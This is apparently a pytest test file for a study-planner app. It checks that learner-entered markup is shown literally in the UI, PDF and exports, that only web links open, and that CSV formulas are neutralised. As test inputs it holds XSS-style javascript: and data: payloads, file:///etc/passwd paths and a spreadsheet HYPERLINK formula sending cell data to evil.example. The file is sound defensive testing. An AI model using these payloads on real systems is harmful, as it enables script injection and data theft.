"""Markup in every text field is shown as written — in the app, the PDF and every export — and
only web addresses are ever opened.

A roadmap, a profile, a note and a study session whose every text holds HTML, an entity, format
placeholders and invisible bidi and zero-width characters are imported and shown. Every text the
window shows is then read back as the learner sees it (plain or rendered rich text, with button
mnemonics applied): the markup must be there literally, never interpreted.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import ClassVar

import pytest
import yaml
from icalendar import Calendar
from pypdf import PdfReader
from pypdf.generic import DictionaryObject, IndirectObject
from PySide6 import QtGui
from PySide6.QtCore import QModelIndex, QPoint, QSettings, Qt, QUrl
from PySide6.QtGui import QAction, QHelpEvent, QTextDocument
from PySide6.QtWidgets import (
    QAbstractButton,
    QAbstractItemView,
    QComboBox,
    QLabel,
    QMenu,
    QToolTip,
    QWidget,
)
from pytestqt.qtbot import QtBot

from planner.core.export_data import ExportData
from planner.errors import RoadmapError
from planner.export.csv_history import export_csv
from planner.export.ics import export_ics
from planner.export.json_export import export_json
from planner.export.markdown import export_markdown
from planner.export.options import PdfOptions
from planner.fileformat.load import parse_text
from planner.service import Planner
from planner.ui.dialogs.export import ExportDialog
from planner.ui.views import skill_panel
from planner.ui.window.main_window import MainWindow
from tests.conftest import TODAY

RTL, ZERO_WIDTH = "\u202e", "\u200b"
MARKUP = (
    f'<b>bold</b><img src=x><a href="javascript:alert(1)">x</a>&amp; %s {{0}} '
    f"{RTL}lre{ZERO_WIDTH}dit"
)
# What the learner sees of MARKUP if it were taken for markup: one of these must never show
# unless the literal text is there too (e.g. `bold` without `<b>bold</b>`).
INTERPRETED = {"bold": "<b>bold</b>", "amp;": "&amp;", "alert(1)": 'href="javascript:alert(1)"'}

SKILL = f"Skill {MARKUP}"
BASE = f"Base {MARKUP}"
AREA = f"Area {MARKUP}"
SUMMARY = f"Summary {MARKUP}"
RESOURCE = f"Resource {MARKUP}"
ROLE = f"Role {MARKUP}"
ROLE_SUMMARY = f"Role summary {MARKUP}"
TRACK = f"Track {MARKUP}"
TRACK_SUMMARY = f"Track summary {MARKUP}"
PROFILE = f"Profile {MARKUP}"
SESSION_NOTE = f"Session {MARKUP}"
NOTE = f"Note {MARKUP}\nsecond line {MARKUP}"
LINK = "https://example.com/a?b=1&c=<2>"


def roadmap() -> str:
    """A roadmap file with MARKUP in every text it can hold."""
    data = {
        "format": 1,
        "name": f"File {MARKUP}",
        "skills": [
            {"id": "markup-base", "name": BASE, "area": AREA, "hours": 3},
            {
                "id": "markup-skill",
                "name": SKILL,
                "area": AREA,
                "hours": 5,
                "level": "beginner",
                "summary": SUMMARY,
                "requires": ["markup-base"],
                "recommends": ["python-basics"],
                "resources": [{"title": RESOURCE, "url": LINK, "kind": "docs", "free": True}],
            },
        ],
        "roles": [
            {
                "id": "markup-role",
                "name": ROLE,
                "summary": ROLE_SUMMARY,
                "salary": {"amount": 1000, "currency": "GBP", "region": MARKUP, "source": MARKUP},
                "goals": ["markup-skill"],
                "tracks": [
                    {
                        "id": "markup-track",
                        "name": TRACK,
                        "summary": TRACK_SUMMARY,
                        "goals": ["markup-base"],
                    }
                ],
            }
        ],
    }
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


@pytest.fixture
def db(tmp_path: Path) -> Path:
    """A database with the markup roadmap imported and a markup-named learner on its role,
    with a note, a study session with a note and one skill done."""
    path = tmp_path / "planner.sqlite3"
    file = tmp_path / "mark<b>up &amp; %s {0}.yaml"
    file.write_text(roadmap(), encoding="utf-8")
    planner = Planner.open(path, today=lambda: TODAY)
    try:
        planner.editing.import_files([file])
        planner.profiles.create(PROFILE)
    finally:
        planner.close()
    planner = Planner.open(path, PROFILE, today=lambda: TODAY)
    try:
        planner.profiles.update(
            role="markup-role", tracks=["markup-track"], hours_per_week=5, start=date(2026, 3, 2)
        )
        planner.progress.log_study("markup-skill", 45, date(2026, 3, 3), SESSION_NOTE)
        planner.progress.set_status("markup-base", "done", date(2026, 3, 4))
        planner.progress.set_note("markup-skill", NOTE)
    finally:
        planner.close()
    return path


@pytest.fixture
def learner(db: Path) -> Iterator[Planner]:
    planner = Planner.open(db, PROFILE, today=lambda: TODAY)
    yield planner
    planner.close()


@pytest.fixture
def data(learner: Planner) -> ExportData:
    return learner.planning.export_data()


def test_the_loader_keeps_every_text_as_written() -> None:
    loaded = parse_text(roadmap(), "m.yaml").roadmap
    skill = loaded.skills[1]
    assert (skill.name, skill.area, skill.summary) == (SKILL, AREA, SUMMARY)
    assert skill.resources[0].title == RESOURCE
    role = loaded.roles[0]
    assert (role.name, role.summary, role.tracks[0].name) == (ROLE, ROLE_SUMMARY, TRACK)


# ---------------------------------------------------------------------------- links
@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "file:///etc/passwd",
        "file://localhost/etc/passwd",
        "data:text/html,<script>alert(1)</script>",
        "ftp://example.org/file",
        "mailto:someone@example.org",
        "vbscript:msgbox(1)",
        "about:blank",
        "smb://server/share",
        "/etc/passwd",
        "example.org",
        "//example.org/x",
        "http:/example.org",
        "https://",
        "http://exa mple.org",
    ],
)
def test_the_loader_accepts_only_web_addresses(url: str) -> None:
    text = roadmap().replace(LINK, url.replace("'", "''"))
    text = text.replace(f"url: {LINK}", f"url: '{url}'")
    with pytest.raises(RoadmapError) as caught:
        parse_text(text, "m.yaml")
    [problem] = caught.value.problems
    assert re.fullmatch(
        r"m\.yaml:\d+: skill 'markup-skill', resource .*: url: .* is not an "
        r"http or https address",
        str(problem),
    ), str(problem)


class Opened:
    """QDesktopServices stand-in: records what would have been opened."""

    urls: ClassVar[list[str]] = []

    @classmethod
    def openUrl(cls, url: QUrl) -> bool:
        cls.urls.append(url.toString())
        return True


@pytest.mark.gui
@pytest.mark.parametrize(
    ("url", "opens"),
    [
        ("https://example.org/a?b=1", True),
        ("http://example.org", True),
        ("HTTPS://EXAMPLE.ORG/", True),
        ("javascript:alert(1)", False),
        ("JAVASCRIPT:alert(1)", False),
        ("file:///etc/passwd", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("ftp://example.org/f", False),
        ("mailto:a@example.org", False),
        ("/etc/passwd", False),
        ("x", False),
        ("", False),
    ],
)
def test_the_skill_panel_opens_only_web_addresses(
    qtbot: QtBot, learner: Planner, monkeypatch: pytest.MonkeyPatch, url: str, opens: bool
) -> None:
    from planner.ui.state import AppState

    monkeypatch.setattr(skill_panel, "QDesktopServices", Opened)
    monkeypatch.setattr(Opened, "urls", [])
    panel = skill_panel.SkillPanel(AppState(learner))
    qtbot.addWidget(panel)
    panel.show_skill("markup-skill")
    panel.resources.linkActivated.emit(url)
    assert Opened.urls == ([QUrl(url).toString()] if opens else [])


# ---------------------------------------------------------------------------- the app
def rich_to_plain(text: str) -> str:
    doc = QTextDocument()
    doc.setHtml(text)
    return doc.toPlainText()


def as_seen(text: str, text_format: Qt.TextFormat = Qt.TextFormat.AutoText) -> str:
    """What the learner reads of a text shown in this format."""
    if text_format == Qt.TextFormat.PlainText:
        return text
    if text_format == Qt.TextFormat.RichText or QtGui.Qt.mightBeRichText(text):
        return rich_to_plain(text)
    return text


def with_mnemonics(text: str) -> str:
    """A button's or a menu entry's text as shown: `&&` is `&`, `&x` is `x` (underlined)."""
    return re.sub(r"&(.)", r"\1", text)


def model_texts(view: QAbstractItemView) -> Iterator[tuple[str, str]]:
    model = view.model()
    if model is None:
        return
    pending = [QModelIndex()]
    while pending:
        parent = pending.pop()
        try:
            columns = model.columnCount(parent)
        except TypeError:  # private in a list model: one column
            columns = 1
        for row in range(model.rowCount(parent)):
            for column in range(columns):
                index = model.index(row, column, parent)
                display = index.data(Qt.ItemDataRole.DisplayRole)
                if isinstance(display, str):
                    yield "item", display
                tip = index.data(Qt.ItemDataRole.ToolTipRole)
                if isinstance(tip, str):
                    yield "item tooltip", as_seen(tip)
            pending.append(model.index(row, 0, parent))


def texts_shown(root: QWidget) -> list[tuple[str, str]]:
    """Every text `root` shows, as the learner reads it, with where it is shown."""
    found: list[tuple[str, str]] = [("window title", root.windowTitle())]
    for widget in [root, *root.findChildren(QWidget)]:
        kind = type(widget).__name__
        if widget.toolTip():
            found.append((f"{kind} tooltip", as_seen(widget.toolTip())))
        if isinstance(widget, QLabel):
            found.append((kind, as_seen(widget.text(), widget.textFormat())))
        elif isinstance(widget, QAbstractButton):
            found.append((kind, with_mnemonics(widget.text())))
        elif isinstance(widget, QComboBox):
            found += [(kind, widget.itemText(i)) for i in range(widget.count())]
        elif isinstance(widget, QAbstractItemView):
            found += [(f"{kind} {where}", text) for where, text in model_texts(widget)]
        if isinstance(widget, QMenu):
            found.append(("menu title", with_mnemonics(widget.title())))
            for action in widget.actions():
                found.append(("menu entry", with_mnemonics(action.text())))
                if widget.toolTipsVisible() and action.toolTip():
                    found.append(("menu tooltip", as_seen(action.toolTip())))
    for action in root.findChildren(QAction):
        found.append(("action", with_mnemonics(action.text())))
    return found


def assert_literal(shown: list[tuple[str, str]]) -> None:
    """No text shows MARKUP interpreted."""
    for where, text in shown:
        for symptom, literal in INTERPRETED.items():
            if symptom in text:
                assert literal in text, f"{where} shows markup interpreted: {text!r}"


def assert_shown(shown: list[tuple[str, str]], *expected: str) -> None:
    everything = "\n".join(text for _, text in shown)
    for text in expected:
        assert text in everything, f"{text!r} is not shown"


@pytest.fixture
def window(qtbot: QtBot, db: Path, tmp_path: Path) -> Iterator[MainWindow]:
    planner = Planner.open(db, PROFILE, today=lambda: TODAY)
    settings = QSettings(str(tmp_path / "settings.ini"), QSettings.Format.IniFormat)
    shown = MainWindow(planner, settings)
    qtbot.addWidget(shown)
    shown.show()
    qtbot.waitExposed(shown)
    yield shown
    shown.close()
    planner.close()


@pytest.mark.gui
def test_the_plan_and_the_skill_panel_show_markup_literally(window: MainWindow) -> None:
    window.state.select("markup-skill")
    panel = window.skill_panel
    assert panel.title.text() == SKILL
    assert panel.title.textFormat() == Qt.TextFormat.PlainText
    assert panel.summary.text() == SUMMARY
    assert panel.summary.textFormat() == Qt.TextFormat.PlainText
    assert AREA in panel.meta.text()
    assert panel.notes.toPlainText() == NOTE
    resources = as_seen(panel.resources.text(), panel.resources.textFormat())
    assert RESOURCE in resources
    hrefs = re.findall(r"href=['\"]([^'\"]*)['\"]", panel.resources.text())
    assert hrefs and all(h.startswith("https://") for h in hrefs), hrefs
    assert rich_to_plain(hrefs[0]) == LINK  # the address itself is escaped too
    shown = texts_shown(window)
    assert_literal(shown)
    assert_shown(shown, SKILL, BASE, AREA, SUMMARY, ROLE, PROFILE)


@pytest.mark.gui
def test_the_tracks_menu_shows_markup_literally(window: MainWindow) -> None:
    entries = [with_mnemonics(a.text()) for a in window.tracks_menu.actions()]
    assert TRACK in entries
    tips = [as_seen(a.toolTip()) for a in window.tracks_menu.actions() if a.text()]
    assert TRACK_SUMMARY in tips


@pytest.mark.gui
def test_the_graph_tooltip_shows_markup_literally(
    window: MainWindow, monkeypatch: pytest.MonkeyPatch
) -> None:
    shown: list[str] = []
    monkeypatch.setattr(QToolTip, "showText", lambda _pos, text, *_args: shown.append(text))
    graph = window.graph_view
    for skill_id in ("markup-skill", "markup-base"):
        monkeypatch.setattr(graph, "skill_at", lambda _pos, skill_id=skill_id: skill_id)
        graph._input.show_tooltip(QHelpEvent(QHelpEvent.Type.ToolTip, QPoint(5, 5), QPoint(5, 5)))
    assert len(shown) == 2
    seen = [as_seen(text) for text in shown]
    assert SKILL in seen[0] and AREA in seen[0]
    assert BASE in seen[1]
    assert_literal([("graph tooltip", text) for text in seen])


def done_button(window: MainWindow) -> QAbstractButton:
    """The skill panel's "Done" button."""
    button = window.skill_panel.findChild(QAbstractButton, "status-done")
    assert button is not None
    return button


@pytest.mark.gui
def test_the_progress_view_shows_markup_literally(window: MainWindow) -> None:
    window.progress_view.refresh()
    window.state.select("markup-skill")
    done_button(window).click()  # an undoable step
    shown = texts_shown(window.progress_view)
    assert_literal(shown)
    assert_shown(shown, SKILL, SESSION_NOTE)


@pytest.mark.gui
def test_undo_entries_show_markup_literally(window: MainWindow, qtbot: QtBot) -> None:
    window.state.select("markup-skill")
    done_button(window).click()
    assert window.undo_stack.canUndo()
    shown = texts_shown(window)
    assert_literal(shown)
    assert any(SKILL in text for where, text in shown if where == "action"), "undo entry"


@pytest.mark.gui
def test_the_compare_view_shows_markup_literally(window: MainWindow) -> None:
    view = window.compare_view
    view.refresh()
    shown = texts_shown(view)
    assert_literal(shown)
    assert_shown(shown, ROLE)


@pytest.mark.gui
def test_the_export_dialog_shows_markup_literally(
    qtbot: QtBot, learner: Planner, tmp_path: Path
) -> None:
    settings = QSettings(str(tmp_path / "settings.ini"), QSettings.Format.IniFormat)
    dialog = ExportDialog(learner, settings, open_url=lambda _url: None)
    qtbot.addWidget(dialog)
    dialog.show()
    qtbot.waitExposed(dialog)
    shown = texts_shown(dialog)
    assert_literal(shown)
    assert_shown(shown, ROLE, TRACK, TRACK_SUMMARY)


# ---------------------------------------------------------------------------- exports
@pytest.mark.gui
def test_the_pdf_prints_markup_literally_and_links_only_to_the_web(data: ExportData) -> None:
    from planner.export.pdf import render_pdf
    from planner.export.pdf.qt import gui_application

    with gui_application():
        blob = render_pdf(data, PdfOptions())
    reader = PdfReader(io.BytesIO(blob))
    text = "\n".join(page.extract_text() for page in reader.pages)
    flat = re.sub(r"\s+", " ", text)
    for piece in ("<b>bold</b><img src=x>", '<a href="javascript:alert(1)">x</a>&amp;', "%s {0}"):
        assert piece in flat, piece
    names = ("Skill <b>", "Role <b>", "Resource <b>", "Note <b>", "Profile <b>", "Area <b>")
    for name in names:
        assert name in flat, name
    assert b"/JavaScript" not in blob and b"/JS" not in blob
    uris = []
    for page in reader.pages:
        for ref in page.get("/Annots") or []:
            annotation = ref.get_object() if isinstance(ref, IndirectObject) else ref
            assert isinstance(annotation, DictionaryObject)
            action = annotation.get("/A")
            if action is None:
                continue
            action = action.get_object()
            assert action.get("/S") in ("/URI", "/GoTo"), action
            if action.get("/S") == "/URI":
                uris.append(str(action["/URI"]))
    assert uris, "the resource is a link"
    assert all(uri.startswith(("https://", "http://")) for uri in uris), uris
    assert "https://example.com/a?b=1&c=%3C2%3E" in uris or LINK in uris, uris


def test_the_markdown_export_does_not_render_markup(data: ExportData) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    text = export_markdown(data)
    rendered = markdown_it.MarkdownIt("commonmark").render(text)
    # No tag from the learner's text: only the ones Markdown itself makes.
    tags = set(re.findall(r"</?([a-zA-Z][a-zA-Z0-9]*)", rendered))
    assert tags <= {"h1", "h2", "p", "ul", "li", "strong", "a", "br", "em"}, tags
    hrefs = [html.unescape(h) for h in re.findall(r'href="([^"]*)"', rendered)]
    assert hrefs and all(h.startswith(("https://", "http://")) for h in hrefs), hrefs
    plain = html.unescape(re.sub(r"<[^>]*>", "", rendered))
    for name in (SKILL, ROLE, RESOURCE, AREA, PROFILE):
        assert name in plain, name
    assert MARKUP in plain.replace("\n", " ")  # the note, whose lines become line breaks


def test_the_json_export_keeps_text_as_it_is(data: ExportData) -> None:
    exported = json.loads(export_json(data))
    assert exported["profile"] == PROFILE
    assert exported["notes"] == {"markup-skill": NOTE}
    assert SKILL in [step["name"] for step in exported["steps"]]


def test_the_calendar_is_well_formed_and_literal(data: ExportData) -> None:
    raw = export_ics(data)
    assert raw.endswith(b"\r\n")
    lines = raw.split(b"\r\n")
    assert all(len(line) <= 75 for line in lines), "lines are folded at 75 octets"
    assert b"\n" not in raw.replace(b"\r\n", b"")
    calendar = Calendar.from_ical(raw)
    summaries = [str(e.get("SUMMARY")) for e in calendar.walk("VEVENT")]
    assert any(SKILL in s for s in summaries), summaries


def test_the_csv_is_well_formed_and_literal(data: ExportData) -> None:
    raw = export_csv(data).decode("utf-8")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len({len(row) for row in rows}) == 1
    header, *body = rows
    assert header[3] == "name" and header[7] == "note"
    assert any(row[3] == SKILL and row[7] == SESSION_NOTE for row in body), body


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_neutralises_formulas(tmp_path: Path, start: str) -> None:
    """A note or a name a spreadsheet would run as a formula starts with an apostrophe."""
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    file = tmp_path / "f.yaml"
    name = formula if start.strip() else "x"  # a name's spaces are trimmed
    file.write_text(
        "format: 1\nskills:\n"
        f"  - {{id: formula, name: '{name}', area: X, hours: 1, requires: [python-basics]}}\n",
        encoding="utf-8",
    )
    planner = Planner.open(tmp_path / "p.sqlite3", today=lambda: TODAY)
    try:
        planner.editing.import_files([file])
        planner.profiles.update(role="ml-engineer")
        planner.progress.log_study("formula", 30, date(2026, 3, 1), formula)
        planner.progress.set_status("formula", "done", date(2026, 3, 2))
        raw = export_csv(planner.planning.export_data()).decode("utf-8")
    finally:
        planner.close()
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    [session] = [row for row in rows if row[1] == "study"]
    assert session[7] == "'" + formula
    assert session[3] == ("'" + name if start.strip() else name)
    danger = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in rows for cell in row if cell.startswith(danger)]
